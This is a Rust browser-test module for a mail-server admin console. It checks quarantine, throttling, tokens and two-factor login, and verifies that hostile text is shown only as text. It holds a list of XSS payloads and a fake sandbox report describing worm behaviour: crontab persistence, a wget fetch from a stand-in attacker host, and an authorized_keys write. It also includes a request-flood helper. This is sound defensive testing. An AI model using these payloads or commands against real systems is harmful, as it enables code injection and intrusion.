//! Tests of the console in a real browser: the main tasks, and hostile texts that must be shown as text. `pages.rs` takes pictures of every
//! page.

mod accessible;
pub(crate) mod browser;
mod crowded;
mod pages;
mod schema;
mod shown;
mod through_gate;
pub(crate) mod visitor;

use crate::control::gate::{Client, Site, Up, wait_for};
use browser::Browser;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

/// Texts for subjects, names and bodies that must be shown as text. If one of them is executed, it sets `window.ran`.
const TRICKS: [&str; 12] = [
    "<script>window.ran=1</script>",
    "\"><script>window.ran=2</script>",
    "'><img src=x onerror=window.ran=3>",
    "<svg/onload=window.ran=4>",
    "</title><script>window.ran=5</script>",
    "</textarea><script>window.ran=6</script>",
    "javascript:window.ran=7",
    "<iframe srcdoc=\"<script>parent.ran=8</script>\">",
    "<a href=javascript:window.ran=9>x</a>",
    "{{constructor.constructor('window.ran=10')()}}",
    "</pre></section><style>*{display:none}</style><script>window.ran=11</script>",
    "<math><mtext></p><img src=x onerror=window.ran=12>",
];

/// Without this, the demonstration would take a free port for mail from outside, and parallel tests might take the same one.
pub(crate) const INBOUND: &str =
    "[inbound]\nlisten = [\"127.0.0.1:0\"]\ndomains = [\"demo.test\"]\nrecipients = \"any\"\n";

/// A plugin that reports what a VM would have seen of a worm, with these tricks in every text.
const ACTS: &str = r#"import json
text = open("input/attachment", "rb").read()
tricks = TRICKS
if b"worm" not in text:
    json.dump({"success": True}, open("output/output.json", "w"))
    raise SystemExit
start = [{"pid": 100, "parent": 1, "path": "/tmp/sample", "arguments": ["/tmp/sample"], "user": 1000, "ended": "exit 0"},
         {"pid": 101, "parent": 100, "path": "/bin/sh", "arguments": ["sh", "-c", "crontab -l | cat - /tmp/.x | crontab -"], "user": 1000, "ended": "exit 0"},
         {"pid": 102, "parent": 101, "path": "/usr/bin/crontab", "arguments": ["crontab", "-l"], "user": 1000, "ended": "exit 1"},
         {"pid": 103, "parent": 101, "path": "/bin/cat", "arguments": ["cat", "-", "/tmp/.x"], "user": 1000, "ended": "exit 0"},
         {"pid": 104, "parent": 100, "path": "/usr/bin/wget", "arguments": ["wget", "-q", "http://drop.evil.example/stage2"], "user": 1000, "ended": "signal 9"},
         {"pid": 105, "parent": 104, "path": "/tmp/stage2", "arguments": ["./stage2", "x" * 5000], "user": 0, "ended": ""}]
start += [{"pid": 200 + n, "parent": 199 + n if n else 105, "path": trick, "arguments": [trick], "ended": trick} for n, trick in enumerate(tricks)]
start += [{"pid": 1000 + n, "parent": 100, "path": "/bin/true"} for n in range(1500)]
full = {"machine": "linux-1", "accelerator": "kvm", "ended": "exit 0", "processes": start,
        "files": [{"path": "/tmp/.x", "what": "written", "bytes": 41, "sha256": "ab" * 32},
                  {"path": "/home/user/.ssh/authorized_keys", "what": "written", "bytes": 402, "sha256": "cd" * 32}]
                 + [{"path": trick, "what": "deleted"} for trick in tricks],
        "network": [{"pid": 104, "what": "dns", "to": "drop.evil.example", "detail": ""},
                    {"pid": 104, "what": "connect", "to": "198.51.100.4:80", "detail": "refused: nobody is there"}]
                   + [{"pid": 105, "what": trick, "to": trick, "detail": trick} for trick in tricks],
        "persistence": [{"path": "/var/spool/cron/crontabs/user", "what": "cron"}, {"path": tricks[1], "what": tricks[2]}]}
findings = [{"level": "malicious", "namespace": "acts", "predicate": "stays", "value": "it writes a line into a crontab"},
            {"level": "suspicious", "namespace": "acts", "predicate": "reaches", "value": "drop.evil.example"}]
findings += [{"level": "suspicious", "namespace": trick, "predicate": trick, "value": trick} for trick in tricks]
json.dump({"success": True, "full": full, "summary": {"taxonomies": findings},
           "artifacts": [{"dataType": "domain", "data": "drop.evil.example"}, {"dataType": "url", "data": "http://drop.evil.example/stage2"}]},
          open("output/output.json", "w"))
"#;

/// A folder with that plugin.
fn plugins() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt;
    let folder = tempfile::tempdir().expect("a folder");
    let home = folder.path().join("acts");
    std::fs::create_dir(&home).expect("a folder");
    let tricks = serde_json::json!(TRICKS).to_string();
    let program = format!("#!/usr/bin/python3\n{}", ACTS.replace("TRICKS", &tricks));
    std::fs::write(home.join("run"), program).expect("a plugin");
    std::fs::set_permissions(home.join("run"), std::fs::Permissions::from_mode(0o755)).expect("a plugin");
    let manifest = "name = \"acts\"\nversion = \"1\"\nexec = [\"./run\"]\n";
    std::fs::write(home.join("plugin.toml"), manifest).expect("a manifest");
    folder
}

/// The folder for pictures.
pub(crate) fn album() -> PathBuf {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("screenshots");
    std::fs::create_dir_all(&folder).expect("a folder");
    folder
}

/// A browser that is logged in.
pub(crate) fn logged_in(up: &Up, name: &str, password: &str) -> (Browser, String) {
    let browser = Browser::start();
    let console = format!("http://{}", up.listener("console"));
    browser.goto(&console);
    browser.find("input[name=name]").write(name);
    browser.find("input[name=password]").write(password);
    browser.find("button.main").click();
    browser.find(".who");
    (browser, console)
}

/// Checks that none of the tricks was executed, and that there is nothing active on the page.
#[track_caller]
fn nothing_ran(browser: &Browser) {
    assert_eq!(browser.dialog(), None);
    let ran = browser.run("return window.ran === undefined ? null : window.ran");
    assert!(ran.is_null(), "trick {ran} ran at {}", browser.url());
    let active = "main script, main iframe, main object, main embed, main img, main style, main link, main base, main a[href^=javascript]";
    assert_eq!(browser.count(active), 0, "something active at {}", browser.url());
    let handlers = "return [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes]).filter((a) => a.name.startsWith('on') || a.name === 'style').length";
    assert_eq!(browser.run(handlers), 0, "something that acts at {}", browser.url());
}

/// The login of a program that may send as much as it likes, and its password.
const BULK: [&str; 2] = ["bulk", "a long password"];

fn bulk_sender(site: &Site, up: &Up) -> Client {
    let add = ["user", "add", BULK[0], "--address", "bulk@localhost", "--profile", "exempt", "--password-stdin"];
    site.weir_with(&add, &format!("{}\n", BULK[1])).ok();
    Client::login(&up.plain, BULK[0], BULK[1]).expect("the program logs in")
}

/// Sends a mail with this body.
fn send(client: &mut Client, subject: &str, body: &str) {
    for line in ["MAIL FROM:<bulk@localhost>", "RCPT TO:<ann@localhost>", "DATA"] {
        client.say(line);
    }
    let said = client.say(&format!("From: bulk@localhost\r\nTo: ann@localhost\r\nSubject: {subject}\r\n{body}\r\n."));
    assert!(said.starts_with("250"), "{said}");
}

/// Lets a worm send from the account `demo`. It is stopped at about the 21st mail.
fn outbreak(up: &Up) {
    let mut client = Client::login(&up.plain, "demo", &up.password()).expect("the demo user");
    for number in 0..30 {
        let subject = TRICKS.get(number).copied().unwrap_or("your invoice");
        let to = format!("stranger{number}@localhost");
        let said = client.mail("demo@localhost", &[to.as_str()], subject);
        if !said.starts_with("250") {
            return;
        }
    }
}

/// Sends infected mail, a forbidden attachment, and bodies full of tricks.
fn attacks_by_mail(site: &Site, up: &Up) {
    let mut client = bulk_sender(site, up);
    let tricks = TRICKS.join("\r\n");
    let virus = weir_scan::eicar::eicar();
    let mixed = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n";
    let bodies = format!(
        "--b\r\nContent-Type: text/plain\r\n\r\nplain words\r\n{tricks}\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>shown words</p>{tricks}\r\n"
    );
    send(
        &mut client,
        TRICKS[0],
        &format!("{mixed}\r\n{bodies}--b\r\nContent-Type: text/plain; name=\"v.txt\"\r\n\r\n{virus}\r\n--b--"),
    );
    let program =
        "--b\r\nContent-Type: application/octet-stream; name=\"<svg onload=window.ran=20>.exe\"\r\n\r\nMZ\r\n--b--";
    send(&mut client, TRICKS[2], &format!("{mixed}\r\n{bodies}{program}"));
    send(&mut client, "invoice", &format!("{mixed}\r\n{bodies}{program}"));
    wait_for("three mails in quarantine", || {
        (site.json(&["quarantine", "list"])["entries"].as_array()?.len() == 3).then_some(())
    });
}

/// Requests that keep the backend of the web gate busy until the flood is stopped.
pub(crate) struct Flood(Arc<AtomicBool>, Vec<std::thread::JoinHandle<()>>);

impl Flood {
    fn new(address: &str) -> Flood {
        Flood::of(address, 30)
    }

    /// Starts a flood with this many clients.
    pub(crate) fn of(address: &str, clients: usize) -> Flood {
        let stop = Arc::new(AtomicBool::new(false));
        let client = |_| {
            let (stop, address) = (Arc::clone(&stop), address.to_owned());
            std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    let Ok(mut stream) = TcpStream::connect(&address) else { return };
                    let _ = stream.write_all(b"GET /slow?ms=100 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
                    let _ = stream.read_to_end(&mut Vec::new());
                }
            })
        };
        let threads = (0..clients).map(client).collect();
        Flood(stop, threads)
    }

    pub(crate) fn stop(self) {
        self.0.store(true, Ordering::Relaxed);
        self.1.into_iter().for_each(|thread| drop(thread.join()));
    }
}

#[test]
fn the_main_jobs_are_done_in_a_browser() {
    let site = Site::new(INBOUND);
    let up = site.up_with(&["--demo"]);
    outbreak(&up);
    attacks_by_mail(&site, &up);
    let (browser, console) = logged_in(&up, "admin", &up.admin_password());

    // The first page says what is wrong, and links to the user.
    browser.says("One account is stopped");
    browser.says("demo stopped since");
    nothing_ran(&browser);
    browser.link("Decide").click();
    browser.says("What you can do");
    nothing_ran(&browser);

    // Release one held mail.
    browser.goto(&format!("{console}/throttle"));
    nothing_ran(&browser);
    let held = site.json(&["held", "list"])["messages"].as_array().expect("a list").len();
    assert!(held > 15, "{held}");
    browser.find("form.list tbody a").click();
    browser.says("What you can do");
    browser.says("Until somebody decides");
    nothing_ran(&browser);
    let message = browser.url().rsplit('/').next().expect("an id").to_owned();
    let to =
        site.json(&["held", "show", &message])["recipients"][0]["address"].as_str().expect("an address").to_owned();
    browser.find("button[value=release]").click();
    browser.says("1 mail to 1 recipient on the way");
    site.arrived(&to, 1);

    // Delete another one with the keyboard: j moves to the first mail of the list, x selects it.
    let before = browser.count("form.list tbody tr");
    assert_eq!(before, held - 1);
    browser.run("document.querySelectorAll('table.rows').forEach((table) => table.remove())");
    browser.press("jx");
    assert_eq!(browser.count("tr.here input:checked"), 1);
    browser.find("form.list summary.danger").click();
    browser.find("form.list button[value=delete]").click();
    browser.says("1 mail to 1 recipient deleted");
    assert_eq!(browser.count("form.list tbody tr"), held - 2);

    // Unlock the user: the mail that waits is sent little by little.
    browser.goto(&format!("{console}/throttle/users/demo"));
    browser.find("form[action$=unlock] button").click();
    browser.says("demo may send again");
    browser.says("How the delay queue drains");
    assert_eq!(site.json(&["user", "show", "demo"])["throttle"]["state"], "waiting");

    // Look at infected mail. It can be released only with a reason.
    browser.goto(&format!("{console}/quarantine?queue=virus"));
    nothing_ran(&browser);
    browser.find("form.list tbody a").click();
    browser.says("EICAR_test_file");
    browser.says("plain words");
    browser.says("shown words");
    browser.says("without its markup");
    nothing_ran(&browser);
    let infected = browser.url().rsplit('/').next().expect("an id").to_owned();
    browser.find(".why details summary.danger").click();
    browser.find("input[name=reason]").write("the sender rang: it is the test file");
    browser.find("button[value=release]").click();
    browser.says("on the way");
    site.arrived("ann@localhost", 1);
    let trail = site.weir(&["audit", &infected]).ok();
    assert!(trail.contains("console:admin") && trail.contains("the sender rang"), "{trail}");
    // Delete a mail with a forbidden attachment.
    browser.goto(&format!("{console}/quarantine?queue=ext&q=invoice"));
    assert_eq!(browser.count("form.list tbody tr"), 1);
    browser.find("input.all").click();
    browser.find("form.list .ask:last-child summary").click();
    browser.find("button[value=delete]").click();
    browser.says("1 mail to 1 recipient deleted");

    // Follow a sample to its report.
    let sample = site.home().join("<svg onload=window.ran=30>.sh");
    std::fs::write(&sample, "#!/bin/sh\necho '<script>window.ran=31</script>'\n").expect("a sample");
    let submitted = site.json(&["lab", "submit", sample.to_str().expect("text")])[0]["sample"].to_string();
    wait_for("the report", || (!site.json(&["lab", "report", &submitted])["ended_at"].is_null()).then_some(()));
    browser.goto(&format!("{console}/lab"));
    nothing_ran(&browser);
    // The page that the script would write was found in it and is listed, too.
    browser.find(&format!("table tbody a[href$='/lab/samples/{submitted}']")).click();
    browser.says("What the plugins say");
    browser.says("text/x-shellscript");
    browser.says("Raw reports");
    nothing_ran(&browser);
    let hash = site.json(&["lab", "list"])[0]["hash"].as_str().expect("a hash").to_owned();
    browser.find(".search input").write(&format!("{}\u{e007}", &hash[..12]));
    browser.says("Samples");
    nothing_ran(&browser);

    // After logging out, pages need a login again.
    browser.find(".who button").click();
    browser.find("input[name=password]");
    browser.goto(&format!("{console}/throttle"));
    browser.find("input[name=password]");
    assert!(browser.url().contains("/login?next=%2Fthrottle"), "{}", browser.url());
}

#[test]
fn accounts_and_tokens_are_managed_on_the_command_line() {
    let site = Site::new(INBOUND);
    drop(site.up());
    site.weir(&["console", "add", "olga", "--generate"]).ok();
    let changed = site.json(&["console", "passwd", "olga", "--generate"]);
    assert!(changed["password"].as_str().is_some_and(|password| password.len() > 20), "{changed}");
    assert_eq!(changed["accounts"].as_array().map(Vec::len), Some(2), "{changed}");
    site.weir(&["console", "codes-off", "olga"]).refused(&["no codes are wanted"]);
    assert_eq!(site.json(&["console", "remove", "olga"]).as_array().map(Vec::len), Some(1));
    let made = site.weir(&["console", "token", "add", "backup", "--scope", "operate", "--days", "0"]).ok();
    assert!(made.contains("valid for ever") && made.contains("token: weir_"), "{made}");
    site.weir(&["console", "token", "add", "backup"]).refused(&["already a token", "hint"]);
    site.weir(&["console", "token", "add", "x", "--scope", "all"]).refused(&["all"]);
    site.weir(&["console", "token", "add", "x", "--days", "99999"]).refused(&["3650 days"]);
    let list = site.weir(&["console", "token", "list"]).ok();
    assert!(
        list.contains("backup") && list.contains("operate") && list.contains("cli:") && !list.contains("weir_"),
        "{list}"
    );
    site.weir(&["console", "token", "revoke", "backup"]).ok();
    site.weir(&["console", "token", "revoke", "backup"]).refused(&["no token backup"]);
    assert_eq!(site.json(&["console", "token", "list"]), serde_json::json!([]));
}

#[test]
fn a_token_and_an_authenticator_are_set_up_in_a_browser() {
    let site = Site::new(INBOUND);
    let up = site.up_with(&["--demo"]);
    let password = up.admin_password();
    let (browser, console) = logged_in(&up, "admin", &password);
    // Make a token. It is shown once, works for its scope, and can be revoked.
    browser.goto(&format!("{console}/settings"));
    browser.find("form[action='/settings/tokens'] input[name=name]").write("grafana");
    browser.find("form[action='/settings/tokens'] button").click();
    browser.says("is shown only this once");
    let text = browser.text();
    let token: String = text.split_once("weir_").expect("a token").1.chars().take(64).collect();
    browser.picture(&album().join("token-light.png"));
    let asked = |token: &str| {
        let bearer = format!("Authorization: Bearer weir_{token}");
        let url = format!("{console}/api/v1/status");
        let mut curl = std::process::Command::new("curl");
        curl.args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", &bearer, &url]);
        String::from_utf8_lossy(&curl.output().expect("curl runs").stdout).into_owned()
    };
    assert_eq!((asked(&token).as_str(), asked("0").as_str()), ("200", "401"));
    let listed = site.json(&["console", "token", "list"]);
    assert_eq!((&listed[0]["name"], &listed[0]["scope"]), (&"grafana".into(), &"read".into()));
    browser.find("#tokens ~ .scroll summary.danger").click();
    browser.find("form[action='/settings/tokens/revoke'] button").click();
    browser.says("The token grafana is revoked");
    assert_eq!(asked(&token), "401");
    // Set up a second factor, without JavaScript and without the picture: by typing the secret.
    browser.find(".who a").click();
    browser.says("A password is enough");
    browser.find("form[action='/account/codes/begin'] button").click();
    browser.says("Secret");
    browser.looks(1280, false);
    browser.picture(&album().join("account-codes-light.png"));
    let uri = browser.text();
    assert!(uri.contains("otpauth://totp/Weir:admin?secret="), "{uri}");
    let secret: String = uri.split_once("secret=").expect("a secret").1.chars().take(32).collect();
    browser.find("input[name=code]").write(&authenticator(&secret));
    browser.find("form[action='/account/codes/confirm'] button").click();
    browser.says("From now on every login wants a code");
    assert_eq!(browser.count(".codes li"), 8);
    let text = browser.text();
    let recovery = text
        .lines()
        .find(|line| line.trim().len() == 19 && line.matches('-').count() == 3)
        .expect("a code")
        .trim()
        .to_owned();
    browser.find(".who button").click();
    browser.find("input[name=name]").write("admin");
    browser.find("input[name=password]").write(&password);
    browser.find("button.main").click();
    browser.says("Code of your authenticator");
    browser.picture(&album().join("login-code-light.png"));
    browser.find("input[name=code]").write(&recovery);
    browser.find("button.main").click();
    browser.find(".who");
    assert_eq!(site.json(&["console", "list"])[0]["codes"], true);
    site.weir(&["console", "codes-off", "admin"]).ok();
    assert_eq!(site.json(&["console", "list"])[0]["codes"], false);
}

/// The code that an authenticator with this secret shows now. oathtool computes it, so that our own code is not tested against itself.
fn authenticator(secret: &str) -> String {
    let shown = std::process::Command::new("oathtool").args(["--totp", "--base32", secret]).output();
    let shown = shown.expect("oathtool runs: tools/setup installs it");
    String::from_utf8_lossy(&shown.stdout).trim().to_owned()
}

#[test]
fn limits_are_tuned_in_a_browser() {
    let site = Site::new(INBOUND);
    let up = site.up_with(&["--demo"]);
    let (browser, console) = logged_in(&up, "admin", &up.admin_password());
    browser.goto(&format!("{console}/feeds"));
    browser.find("button[name=propose]").click();
    browser.says("messages have come since the start");
    let mut client = bulk_sender(&site, &up);
    for number in 0..520 {
        let said = client.mail("bulk@localhost", &["ann@localhost"], &format!("number {number}"));
        assert!(said.starts_with("250"), "{said}");
    }
    browser.goto(&format!("{console}/feeds?propose=yes"));
    browser.says("the mean wait of the last");
    browser.looks(1280, false);
    browser.picture(&album().join("feeds-proposal-light.png"));
    browser.find("form[action='/feeds/tune'] button").click();
    browser.says("The limits are now");
}
